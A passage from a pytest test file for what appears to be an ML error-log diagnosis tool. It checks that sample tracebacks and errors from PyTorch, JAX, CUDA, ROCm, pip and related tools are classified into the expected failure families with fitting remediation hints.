    assert diagnosis is not None and diagnosis.family == "accelerator-unavailable"
    assert "Cloud TPU VM" in diagnosis.cause


def test_source_printed_under_a_frame_is_not_read_as_an_error_line() -> None:
    """A traceback cut before its exception: the source line under a frame mentions a timeout, and is no failure."""
    log = '  File "/opt/venv/lib/python3.11/site-packages/somedata/service.py", line 446, in initialize\n    self._pg = dist.new_group(backend="gloo", timeout=timedelta(seconds=self._timeout))\n  File "/opt/venv/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py", line 3505, in new_group\n'
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "hang-timeout", diagnosis


def test_a_library_function_recompiling_on_an_input_shape_leaves_the_verdict_open() -> None:
    """Variable-length batches through a library's model recompile it as surely as a library that compiles per shape."""
    log = "W1126 torch/_dynamo/convert_frame.py:844] [0/8] torch._dynamo hit config.recompile_limit (8)\nW1126 torch/_dynamo/convert_frame.py:844] [0/8]    function: 'forward' (/opt/venv/lib/python3.11/site-packages/transformers/models/llama/modeling_llama.py:900)\nW1126 torch/_dynamo/convert_frame.py:844] [0/8]    last reason: 0/0: tensor 'L['input_ids']' size mismatch at index 1. expected 128, actual 131\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("framework-internal-error", "unknown")
    assert "pad them" in diagnosis.cause


def test_healthy_tensorflow_listing_cut_before_its_gpu_is_no_missing_gpu() -> None:
    """A line record keeps a few lines after its trigger: a listing cut inside the CPU's entry may list a GPU next."""
    log = '[name: "/device:CPU:0"\ndevice_type: "CPU"\nmemory_limit: 268435456\nlocality {\n}\nincarnation: 175047347\nxla_global_id: -1\n, name: "/device:GPU:0"\ndevice_type: "GPU"\nmemory_limit: 14357954560\n]\n'
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "accelerator-unavailable", diagnosis


def test_the_current_pallas_tpu_wording_names_its_kernel_type() -> None:
    diagnosis = _diagnose(
        tb(
            "NotImplementedError: Unimplemented primitive in Pallas TPU lowering for KernelType.TC: erf_inv. Please file an issue at https://github.com/jax-ml/jax/issues/new/choose.",
            "jax",
        )
    )
    assert diagnosis is not None and diagnosis.family == "unsupported-op" and "erf_inv" in diagnosis.cause


def test_linspace_names_its_parameter_as_jax_words_it() -> None:
    log = tb(
        "jax.errors.ConcretizationTypeError: Abstract tracer value encountered where concrete value is expected: traced array with shape int32[]\n'num' argument of jnp.linspace\nThe error occurred while tracing the function f at /home/me/x.py:3 for jit.",
        "jax",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "call jnp.linspace, parameter num" in diagnosis.cause


def test_the_metadata_server_unreachable_without_a_tpu_in_sight_is_no_tpu_finding() -> None:
    log = tb(
        "requests.exceptions.ConnectionError: HTTPConnectionPool(host='metadata.google.internal', port=80): Max retries exceeded with url: /computeMetadata/v1/project/project-id",
        "google",
    )
    diagnosis = _diagnose(log)
    # no rule reads it as a TPU's (a faint likeness to TPU reports may still be offered, said as a guess)
    assert diagnosis is None or not diagnosis.decided or diagnosis.family != "accelerator-unavailable", diagnosis


def test_a_key_error_without_a_read_of_the_environment_is_no_environment_variable() -> None:
    diagnosis = _diagnose("KeyError: 'SALE_PRICE'\n")
    assert diagnosis is None or diagnosis.decided_by != "framework-internal-error:environment_variable_missing"


def test_a_host_compiler_flag_given_to_nvcc_is_not_an_old_nvcc() -> None:
    diagnosis = _diagnose("nvcc fatal   : Unknown option '-fPIC'\n")
    assert diagnosis is not None and "-Xcompiler" in diagnosis.cause and "older" not in diagnosis.cause


def test_the_op_without_a_deterministic_implementation_is_named_alone() -> None:
    diagnosis = _diagnose(
        tb(
            "RuntimeError: kthvalue CUDA does not have a deterministic implementation, but you set 'torch.use_deterministic_algorithms(True)'.",
            "torch",
        )
    )
    assert diagnosis is not None and diagnosis.params["op"] == "kthvalue CUDA"


def test_a_users_own_lib_folder_on_windows_stays_the_users_code() -> None:
    from xladoctor.explain.records import owner_of

    assert owner_of("D:\\proj\\lib\\logging\\setup.py") is None
    assert owner_of("C:\\Users\\me\\miniconda3\\envs\\work\\Lib\\json\\decoder.py") == "python"


def test_an_earlier_quoted_dot_with_trans_b_is_not_the_line_that_failed() -> None:
    log = "triton.compiler.errors.CompilationError: at 5:4:\n    qk = tl.dot(q, k, trans_b=True)\n    x = tl.reshape(qk, (4, 4))\n    ^\nValueError('shape mismatch')\n"
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "api-version-skew:triton_dot_transpose", diagnosis


# --- the second batch of first-sight misses (2026-12-04) -------------------------------------------------------------


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        # cuDNN 8.3+ on Windows: its other wording, and the zlibwapi.dll it needs
        ("Could not load library cudnn_ops_infer64_8.dll. Error code 126\nPlease make sure cudnn_ops_infer64_8.dll is "
         "in your library path!\n", "missing-library", "zlibwapi.dll"),
        # MSVC without its environment: a standard header is missing, not a package
        ("C:\\x\\triton\\main.c(1): fatal error C1083: Cannot open include file: 'algorithm': No such file or "
         "directory\n", "build-failure", "vcvars64.bat"),
        # HIP says CUDA's error strings under its own name
        (tb("RuntimeError: HIP Function Failed (/x/ck_tile/host/kernel_launch_hip.hpp,51) shared object initialization "
            "failed", "flash_attn"), "version-mismatch", "HIP"),
        ("RuntimeError: HIP error: invalid device function\n", "gpu-arch-unsupported", "HSA_OVERRIDE_GFX_VERSION"),
        # a library's own refusal of an old GPU
        (tb("RuntimeError: FlashAttention requires a GPU with compute capability 8.0 or newer", "mylib"),
         "gpu-arch-unsupported", "8.0"),
        (tb("ValueError: bf16 mixed precision requires PyTorch >= 1.10 and a supported device (CUDA >= 11.0 and "
            "compute capability >= 8.0)", "accelerate"), "gpu-arch-unsupported", "8.0"),
        (tb("ValueError: Cannot use bfloat16 on this device: your GPU does not support it.", "mylib"),
         "gpu-arch-unsupported", "newer GPU"),
        # the NumPy a torch cannot use, in the words torch.tensor(np.float32(1)) then raises
        (tb("RuntimeError: Could not infer dtype of numpy.float32"), "version-mismatch", "NumPy"),
        # the CPU allocator on Windows, in its own words
        (tb("RuntimeError: [enforce fail at alloc_cpu.cpp:117] data. DefaultCPUAllocator: not enough memory: you tried "
            "to allocate 1073741824 bytes."), "out-of-memory", "host"),
        ("ERROR: Unexpected bus error encountered in worker. This might be caused by insufficient shared memory (shm)."
         "\n", "nccl-shm", "shm"),
    ],
    ids=["cudnn8-error-126", "msvc-standard-header", "hip-shared-object", "hip-invalid-device-function",
         "needs-compute-capability", "accelerate-bf16", "gpu-does-not-support", "numpy-dtype", "cpu-allocator-windows",
         "dataloader-bus-error"],
)  # fmt: skip
def test_second_batch_shapes(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    said = " ".join([diagnosis.cause, *map(str, diagnosis.params.values()), *diagnosis.remediation, *diagnosis.next])
    assert word in said, said


@pytest.mark.parametrize(
    "log",
    [
        # an op a backend lacks "on this device" is no GPU model's refusal
        tb("NotImplementedError: The operator 'aten::foo' is not supported on this device", "torch"),
        # a header of a package, not of the C++ standard library: that package is missing
        "csrc/x.cpp(3): fatal error C1083: Cannot open include file: 'cuda_runtime.h': No such file or directory\n",
    ],
    ids=["op-on-device", "msvc-package-header"],
)
def test_second_batch_leaves_alone(log: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "gpu-arch-unsupported", diagnosis
    if "C1083" in log:
        assert diagnosis is not None and "CUDA toolkit" in diagnosis.cause, diagnosis


def test_a_keras_op_that_hands_a_keras_tensor_to_tensorflow_is_keras_bug() -> None:
    log = (
        TB + '  File "/v/lib/python3.9/site-packages/keras/src/ops/core.py", line 612, in stop_gradient\n'
        "    return backend.core.stop_gradient(variable)\n"
        '  File "/v/lib/python3.9/site-packages/keras/src/backend/common/keras_tensor.py", line 138, in __tf_tensor__\n'
        "    raise ValueError(\n"
        "ValueError: A KerasTensor cannot be used as input to a TensorFlow function.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        # Python names the first part it could not import: timm was imported, and lacks timm.layers
        (tb("ModuleNotFoundError: No module named 'timm.layers'"), "api-version-skew", "timm"),
        # a namespace package shared by distributions: protobuf is what is missing
        (tb("ModuleNotFoundError: No module named 'google.protobuf'"), "module-not-found", "protobuf"),
        # a folder of the project, run from another working directory
        (tb("ModuleNotFoundError: No module named 'models.common'"), "module-not-found", "models.common"),
        # CTranslate2's words for a DLL of another CUDA major version
        ("Error: Library cublas64_12.dll is not found or cannot be loaded\n", "missing-library", "CUDA 12"),
        # a config file written by a newer peft, read by an older one
        ("TypeError: LoraConfig.__init__() got an unexpected keyword argument 'use_dora'\n", "api-version-skew",
         "peft>=0.9"),
        # a minimum version a library names with its pip command
        ("Using `low_cpu_mem_usage=True` or a `device_map` requires Accelerate: `pip install 'accelerate>=0.26.0'`\n",
         "version-mismatch", "accelerate>=0.26.0"),
    ],
    ids=["submodule-of-installed", "namespace-package", "project-folder", "ctranslate2-dll", "config-key",
         "requires-minimum"],
)  # fmt: skip
def test_third_batch_shapes(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    said = " ".join([diagnosis.cause, *map(str, diagnosis.params.values()), *diagnosis.remediation, *diagnosis.next])
    assert word in said, said


@pytest.mark.parametrize(
    ("log", "word"),
    [
        (tb("RuntimeError: slow_conv2d_forward_mps: input(device='cpu') and weight(device=mps:0') must be on the same "
            "device"), "different devices"),
        (tb("RuntimeError: Inplace update to inference tensor outside InferenceMode is not allowed.You can make a "
            "clone to get a normal tensor before doing inplace update."), "inference_mode"),
        (tb("_pickle.PicklingError: Can't pickle <function <lambda> at 0x00000230131CD3A0>: attribute lookup <lambda> "
            "on __main__ failed"), "num_workers"),
    ],
    ids=["op-device-check", "inference-tensor", "lambda-pickle"],
)  # fmt: skip
def test_fourth_batch_user_code(log: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    assert word in diagnosis.cause, diagnosis.cause


def test_a_colab_traceback_pasted_without_its_header_names_the_user_s_line() -> None:
    """Colab renders frames as Markdown links; a copy from the page keeps them, and the header is often left out."""
    log = (
        "[<ipython-input-53-7ce1d3da5c83>](https://localhost:8080/#) in test_step(model, data_loader)\n"
        "     26     # Adjust metrics\n"
        "---> 27     test_loss /= len(data_loader)\n"
        "     28     test_acc /= len(data_loader)\n"
        "\n"
        "RuntimeError: Inplace update to inference tensor outside InferenceMode is not allowed.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error"
    assert "<ipython-input-53-7ce1d3da5c83>:27" in diagnosis.cause and "test_loss /=" in diagnosis.cause


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        # the answer of TensorFlow's GPU query written as a comment on its line
        ("import tensorflow as tf\ntf.config.list_physical_devices('GPU')  # [] comes back\n", "accelerator-unavailable",
         "tensorflow"),
        # a module name whose closing quote the paste lost (Markdown's backtick)
        ("`ModuleNotFoundError: No module named 'transformers.models.llama.old_cache`\n", "api-version-skew",
         "transformers.models.llama.old_cache"),
        # HIP's enumeration name inside another runtime's message (onnxruntime's status)
        ("[E:onnxruntime:, sequential_executor.cc:514 ExecuteKernel] Non-zero status code returned while running Conv "
         "node. Status Message: HIP error hipErrorInvalidDeviceFunction:invalid device function\n",
         "gpu-arch-unsupported", "HSA_OVERRIDE_GFX_VERSION"),
        # rocBLAS's Tensile library file, with the message's first letters cut by the paste
        ("ocBLAS error: Cannot read /env/lib/python3.12/site-packages/torch/lib/rocblas/library/TensileLibrary.dat: "
         "Illegal seek\n", "gpu-arch-unsupported", "rocBLAS"),
        # a versioned CUDA symbol with no library named before it
        (tb("ImportError: undefined symbol: __nvJitLinkAddData_12_6, version libnvJitLink.so.12", "torch"),
         "cuda-library-mismatch", "libnvJitLink.so.12"),
        # pip's check, with a range that has a comma in it
        ("tensorflow 2.15.0 requires keras<2.16,>=2.15.0, but you have keras 3.3.3 which is incompatible.\n",
         "resolver-conflict", "keras<2.16,>=2.15.0"),
        # conda's solver: a package of the channel that is not built for this platform
        ('InvalidSpec: The package "nvidia/linux-64::cuda-nvcc==12.6.0=0" is not available for the specified '
         "platform\n", "resolver-conflict", "cuda-nvcc"),
        # a library's own range check, raised from a source checkout (which reads as the user's code)
        ('Traceback (most recent call last):\n  File "/home/me/mmdetection/mmdet/__init__.py", line 17, in <module>\n'
         "    assert ok\nAssertionError: MMCV==2.3.0 is used but incompatible. Please install mmcv>=2.0.0rc4, "
         "<2.2.0.\n", "version-mismatch", "mmcv"),
        # a library's own check for a GPU
        (tb("NotImplementedError: FastLib: No NVIDIA GPU found? FastLib currently only supports GPUs!", "fastlib"),
         "accelerator-unavailable", "GPU"),
        # Triton's check of a kernel's block pointer store
        (tb("AssertionError('Block shape([1, 512]) and value shape([512]) mismatch')", "triton"), "user-code-error",
         "Not an environment problem"),
        # the MPS backend's size limit, worded as what it supports now
        (tb("RuntimeError: Output size of the matrix multiplication is larger than currently supported by the MPS "
            "backend: 90000,90000, needs to be less than 2**32 elements.File a feature request for this use case "
            "against the MPS backend at https://github.com/pytorch/pytorch/issues", "torch"), "unsupported-op", "MPS"),
    ],
    ids=["tf-gpus-as-a-comment", "module-quote-lost", "hip-enum-name", "tensile-cut", "nvjitlink-versioned", "pip-range-comma",
         "conda-invalid-spec", "library-range-check", "no-nvidia-gpu-found", "triton-block-shape", "mps-size-limit"],
)  # fmt: skip
def test_seventh_batch_wordings(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    said = " ".join([diagnosis.cause, diagnosis.record, *map(str, diagnosis.params.values()), *diagnosis.remediation])
    assert word in said, said


def test_float64_on_mps_from_the_user_s_own_line_is_theirs_and_from_a_library_a_gap() -> None:
    message = "TypeError: Cannot convert a MPS Tensor to float64 dtype as the MPS framework doesn't support float64."
    yours = _diagnose(tb(message))
    assert yours is not None and (yours.family, yours.verdict) == ("user-code-error", "not-environment")
    assert "/home/me/train.py:10" in yours.cause and "float32" in yours.cause
    library = _diagnose(tb(message, "diffusers"))
    assert library is not None and (library.family, library.verdict) == ("unsupported-op", "framework-bug")


def test_a_driver_too_old_names_the_call_whose_cuda_it_is() -> None:
    log = tb(
        "RuntimeError: CUDA failed with error CUDA driver version is insufficient for CUDA runtime version",
        "faster_whisper",
    ).replace("x = y", "self.model = ctranslate2.models.Whisper(path)")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "cuda-driver-too-old"
    assert "ctranslate2.models.Whisper" in diagnosis.cause, diagnosis.cause


def test_a_changed_signature_names_every_package_of_the_stack() -> None:
    """torch's elastic agent calls a method a DeepSpeed subclass overrides: deepspeed is a party too."""
    log = (
        "Traceback (most recent call last):\n"
        '  File "/env/lib/python3.9/site-packages/deepspeed/elasticity/elastic_agent.py", line 126, in _invoke_run\n'
        "    self._initialize_workers(self._worker_group)\n"
        '  File "/env/lib/python3.9/site-packages/torch/distributed/elastic/agent/server/api.py", line 556, in '
        "_rendezvous\n    self._set_master_addr_port(\n"
        "TypeError: _set_master_addr_port() takes 3 positional arguments but 4 were given\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew"
    assert "torch calls _set_master_addr_port()" in diagnosis.cause and "deepspeed" in diagnosis.cause


@pytest.mark.parametrize(
    "line",
    ["NotImplementedError: subclasses must implement forward", "NameError: name 'modle' is not defined"],
    ids=["not-implemented", "name-error"],
)
def test_the_user_s_own_not_implemented_and_name_errors_are_no_library_s_gap(line: str) -> None:
    diagnosis = _diagnose(tb(line))
    assert diagnosis is None or diagnosis.family not in ("unsupported-op", "api-version-skew"), diagnosis


def test_a_user_code_error_with_no_user_frame_names_the_call_outside_the_frameworks() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/env/lib/python3.11/site-packages/comfy_nodes/mix.py", line 48, in mix\n'
        "    return image1 * (1.0 - mask) + image2 * mask\n"
        '  File "/env/lib/python3.11/site-packages/torch/_tensor.py", line 40, in wrapped\n'
        "    return f(*args, **kwargs)\n"
        "RuntimeError: Expected all tensors to be on the same device, but found at least two devices, cuda:0 and cpu!\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error"
    assert "the call at /env/lib/python3.11/site-packages/comfy_nodes/mix.py:48" in diagnosis.cause, diagnosis.cause
    assert "image1 * (1.0 - mask)" in diagnosis.cause and "your code" not in diagnosis.cause


def test_one_failure_logged_as_a_line_and_as_a_traceback_is_read_where_it_has_frames() -> None:
    log = (
        "!!! Exception during processing !!! Expected all tensors to be on the same device, but found at least two "
        "devices, cuda:0 and cpu!\n"
        "Traceback (most recent call last):\n"
        '  File "/home/me/app/nodes/blend.py", line 12, in run\n'
        "    return a + b\n"
        "RuntimeError: Expected all tensors to be on the same device, but found at least two devices, cuda:0 and cpu!\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error"
    assert "/home/me/app/nodes/blend.py:12" in diagnosis.cause, diagnosis.cause


def test_uv_s_unsatisfiable_requirements_name_the_pair_it_could_not_reconcile() -> None:
    log = (
        "  × No solution found when resolving dependencies:\n"
        "  ╰─▶ Because only the following versions of torch{sys_platform == 'linux'} are available:\n"
        "          torch{sys_platform == 'linux'}<2.8.0\n"
        "      and torchaudio==2.8.0 depends on torch==2.8.0, we can conclude that torchaudio==2.8.0 needs torch 2.8.\n"
        "      And because you require torch{sys_platform == 'linux'}==2.7.1 and torchaudio==2.8.0, we can conclude "
        "that your requirements are unsatisfiable.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict"
    assert "torch==2.7.1 and torchaudio==2.8.0" in diagnosis.cause, diagnosis.cause


def test_a_rope_scaling_of_the_old_form_refused_is_no_release_s_fault() -> None:
    log = tb(
        "ValueError: `rope_scaling` must be a dictionary with two fields, `type` and `factor`, got {'type': 'linear'}"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "api-version-skew:rope_scaling_of_a_newer_config"


def test_vllm_s_own_cuda_runtime_wrapper_refusing_peer_access_is_the_custom_all_reduce() -> None:
    diagnosis = _diagnose("RuntimeError: CUDART error: peer access is not supported between these two devices\n")
    assert diagnosis is not None and diagnosis.family == "bad-configuration", diagnosis
    assert "--disable-custom-all-reduce" in diagnosis.cause
    # NCCL's own wording of the same refusal is NCCL's
    nccl = _diagnose("RuntimeError: peer access is not supported between these two devices\n")
    assert nccl is not None and "NCCL_P2P_DISABLE" in nccl.cause


@pytest.mark.parametrize(
    ("log", "owner"),
    [
        (
            "Argument rematerialization not implemented\nUNREACHABLE executed at /src/triton/lib/Dialect/TritonGPU/"
            "Transforms/TritonGPUConversion.cpp:45!\nAborted (core dumped)\n",
            "Triton",
        ),
        (
            "F0000 00:00:1716818698.460641   95567 debug_macros.h:20] Non-OK-status: status.status() status: "
            "INVALID_ARGUMENT: Expected pred or integral type in argument to and/or operation; got F32.\n"
            "*** Begin stack trace ***\n        torch_xla::ShapeHelper::ShapeOfXlaOp(xla::XlaOp)\n",
            "torch_xla",
        ),
        # LLVM inside XLA is XLA's: the framework's own name first
        (
            "LLVM ERROR: Cannot select: intrinsic %llvm.nvvm.shfl\nE external/xla/xla/service/gpu/compiler.cc:1] x\n",
            "XLA",
        ),
    ],
)
def test_a_native_abort_names_whose_code_it_was_and_where_to_report_it(log: str, owner: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )
    assert f"Native code of {owner} aborted" in diagnosis.cause, diagnosis.cause


def test_a_fatal_status_of_memory_is_memory_not_a_native_abort() -> None:
    log = (
        "F0000 00:00:1.0 95567 pjrt_computation_client.cc:20] Non-OK-status: status status: RESOURCE_EXHAUSTED: "
        "Out of memory while trying to allocate 8.00G.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "out-of-memory", diagnosis


@pytest.mark.parametrize("operands", ["'int' and 'str'", "'NoneType' and 'float'", "'Tensor' and 'ndarray'"])
def test_arithmetic_between_values_not_containers_is_not_read_as_a_wrong_structure(operands: str) -> None:
    diagnosis = _diagnose(tb(f"TypeError: unsupported operand type(s) for +: {operands}", "somelib"))
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:arithmetic_on_a_container"


def test_a_gpu_generation_a_kernel_refuses_names_the_arch_and_a_way_around() -> None:
    diagnosis = _diagnose("RuntimeError: GPU with CUDA capability 7 0 is not supported! (flash_attn)\n")
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported"
    assert "sm_70" in diagnosis.cause and "attn_implementation='sdpa'" in diagnosis.cause


@pytest.mark.parametrize(
    "log",
    ["gcc: error: unrecognized command-line option '-mavx512fp16'\n", "nvcc: error: unknown option '--threads'\n",
     "some-tool: error: the widget is broken\n"],
)  # fmt: skip
def test_a_compiler_s_or_any_tool_s_own_error_line_is_not_read_as_a_refused_command_line(log: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:command_line_refused"


def test_argparse_s_own_words_are_read_for_a_console_script_too() -> None:
    diagnosis = _diagnose("accelerate: error: unrecognized arguments: --foo\n")
    assert diagnosis is not None and diagnosis.decided_by == "user-code-error:command_line_refused"


def test_the_local_rank_flag_stays_read_as_torchrun_s_spelling_not_a_plain_command_line_error() -> None:
    log = "usage: train.py [-h] [--local_rank LOCAL_RANK]\ntrain.py: error: unrecognized arguments: --local-rank=0\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "api-version-skew:local_rank_spelling"


def test_a_shell_s_killed_closing_a_pasted_code_block_is_the_oom_killer() -> None:
    diagnosis = _diagnose("2023-12-03 15:01:30 [INFO] CPU device is used.\nKilled`\n")
    assert diagnosis is not None and diagnosis.family == "out-of-memory"


def test_cublas_refusing_a_call_torch_checked_is_another_cuda_s_cublas() -> None:
    log = tb(
        "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasSgemm( handle, opa, opb, m, n, k, "
        "&alpha, a, lda, b, ldb, &beta, c, ldc)`",
        "torch/nn",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("cuda-library-mismatch", "environment")
    assert "LD_LIBRARY_PATH" in diagnosis.cause and any("env -u LD_LIBRARY_PATH" in s for s in diagnosis.next)


def test_onnxruntime_s_provider_missing_a_library_of_its_build_is_the_build_not_the_library() -> None:
    log = (
        "FAIL : Failed to load library libonnxruntime_providers_cuda.so with error: libcublasLt.so.11: cannot open "
        "shared object file: No such file or directory\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "cuda-library-mismatch", diagnosis
    assert "libcublasLt.so.11" in diagnosis.cause and "onnxruntime-gpu" in diagnosis.cause


def test_zsh_s_report_of_a_killed_job_after_a_progress_bar_is_the_oom_killer() -> None:
    log = (
        "Loading checkpoint shards:  88%|######8 | 7/8 [00:12<00:01,  1.84s/it][1]    14875 killed     python main.py\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "out-of-memory", diagnosis


def test_a_keras_layer_refusing_the_data_s_shape_names_the_layer_and_input_shape() -> None:
    log = tb(
        'ValueError: Input 0 of layer "dense_2" is incompatible with the layer: expected axis -1 of input shape to '
        "have value 16384, but received input with shape (None, 65536)",
        "keras/src",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error"
    assert "dense_2" in diagnosis.cause and "input_shape" in diagnosis.cause and "(None, 65536)" in diagnosis.cause


def test_no_grad_in_lightning_s_test_step_says_the_trainer_runs_it_under_inference_mode() -> None:
    site = "/venv/lib/python3.11/site-packages"
    log = (
        "Traceback (most recent call last):\n"
        '  File "train.py", line 40, in <module>\n    trainer.test(model, dataloaders=test)\n'
        f'  File "{site}/lightning/pytorch/trainer/trainer.py", line 706, in test\n    return call(x)\n'
        f'  File "{site}/torch/autograd/__init__.py", line 411, in grad\n    return run(x)\n'
        "RuntimeError: element 0 of tensors does not require grad and does not have a grad_fn\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "Trainer(inference_mode=False)" in diagnosis.cause, diagnosis.cause
    plain = _diagnose(tb("RuntimeError: element 0 of tensors does not require grad and does not have a grad_fn"))
    assert plain is not None and "inference_mode=False" not in plain.cause


@pytest.mark.parametrize(
    ("log", "said"),
    [
        ("ERROR: Package 'pgeof' requires a different Python: 3.8.19 not in '>=3.8,~=3.12'\n", "pgeof needs Python"),
        (
            "  × No solution found when resolving dependencies:\n  ╰─▶ Because the current Python version (3.13.0) does "
            "not satisfy Python>=3.9,<3.13 and tensorflow==2.18.0 depends on Python>=3.9,<3.13, we can conclude that "
            "tensorflow==2.18.0 cannot be used.\n",
            "tensorflow==2.18.0 needs Python>=3.9,<3.13 and this is Python 3.13.0",
        ),
        (
            "ERROR: Ignored the following versions that require a different python version: 1.21.2 Requires-Python "
            ">=3.7,<3.11\nERROR: Could not find a version that satisfies the requirement numpy==1.21.2 (from "
            "versions: 1.22.0, 1.26.4)\nERROR: No matching distribution found for numpy==1.21.2\n",
            "the version asked for needs another Python",
        ),
    ],
)
def test_a_python_outside_a_release_s_requires_python_is_named_with_the_package(log: str, said: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict"
    assert said in diagnosis.cause, diagnosis.cause


def test_a_resolver_conflict_names_the_pins_that_clash_as_pip_and_uv_list_them() -> None:
    pip = (
        "ERROR: Cannot install -r requirements.txt (line 3) and torch==2.1.0 because these package versions have "
        "conflicting dependencies.\n\nThe conflict is caused by:\n    The user requested torch==2.1.0\n"
        "    torchvision 0.16.0 depends on torch==2.1.0\n    xformers 0.0.26.post1 depends on torch==2.3.0\n\n"
        "To fix this you could try to:\n1. loosen the range of package versions you've specified\n"
        "ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-resolution/\n"
    )
    diagnosis = _diagnose(pip)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict"
    assert (
        "you asked for torch==2.1.0; torchvision 0.16.0 depends on torch==2.1.0; xformers 0.0.26.post1 depends on "
        "torch==2.3.0." in diagnosis.cause
    ), diagnosis.cause
    uv = (
        "  × No solution found when resolving dependencies:\n"
        "  ╰─▶ Because vllm==0.6.3 depends on torch==2.4.0 and you require torch==2.5.1, we can conclude that your "
        "requirements and vllm==0.6.3 are incompatible.\n"
    )
    diagnosis = _diagnose(uv)
    assert diagnosis is not None and "vllm==0.6.3 depends on torch==2.4.0, and you asked for torch==2.5.1" in (
        diagnosis.cause
    ), diagnosis.cause
    # a resolver that says no pair: the lines after are pointed to, and nothing is made up
    bare = _diagnose("ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/\n")
    assert bare is not None and "Read the lines after this one" in bare.cause and "depends on" not in bare.cause


def test_a_failed_cuda_build_names_the_wheel_pip_was_building() -> None:
    log = (
        "      OSError: The detected CUDA version (11.8) mismatches the version that was used to compile\n"
        "      PyTorch (12.4). Please make sure to use the same CUDA versions.\n"
        "      [end of output]\n"
        "  ERROR: Failed building wheel for simple_knn\n"
        "Failed to build simple_knn\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "build-failure"
    assert "simple_knn" in diagnosis.cause and "CUDA_HOME" in diagnosis.cause, diagnosis.cause


def test_an_assertion_torch_compile_s_wrapper_carries_is_the_compiler_s() -> None:
    log = "torch._dynamo.exc.BackendCompilerFailed: backend='inductor' raised:\nAssertionError: increase TRITON_MAX_BLOCK['Y'] to 2048\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )
    assert "TRITON_MAX_BLOCK['Y']" in diagnosis.cause, diagnosis.cause
    # the same assertion raised on its own, with no wrapper and no frames, is no compiler's
    plain = _diagnose("AssertionError: increase TRITON_MAX_BLOCK['Y'] to 2048\n")
    assert plain is None or plain.decided_by != "framework-internal-error:broken_internal_invariant"


def test_a_view_of_a_multi_output_function_changed_in_place_is_the_user_s_code() -> None:
    diagnosis = _diagnose(tb(
        "RuntimeError: Output 0 of UnbindBackward0 is a view and is being modified inplace. This view is the output "
        "of a function that returns multiple views. Such functions do not allow the output views to be modified "
        "inplace. You should replace the inplace operation by an out-of-place one."
    ))  # fmt: skip
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    assert "out-of-place" in diagnosis.cause


def test_jax_without_a_cuda_jaxlib_names_jaxlib() -> None:
    log = (
        "INFO - Unable to initialize backend 'cuda': \n"
        "WARNING - An NVIDIA GPU may be present on this machine, but a CUDA-enabled jaxlib is not installed. Falling "
        "back to cpu.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "accelerator-unavailable"
    assert "jaxlib" in diagnosis.cause


def test_a_missing_onnxruntime_provider_comes_with_the_package_swap_or_where_to_get_it() -> None:
    line = "UserWarning: Specified provider '{}' is not in available provider names.Available providers: 'CPUExecutionProvider'\n"
    cuda = _diagnose(line.format("CUDAExecutionProvider"))
    assert cuda is not None and cuda.family == "accelerator-unavailable"
    assert any("uninstall" in r and "onnxruntime-gpu" in r for r in cuda.remediation), cuda.remediation
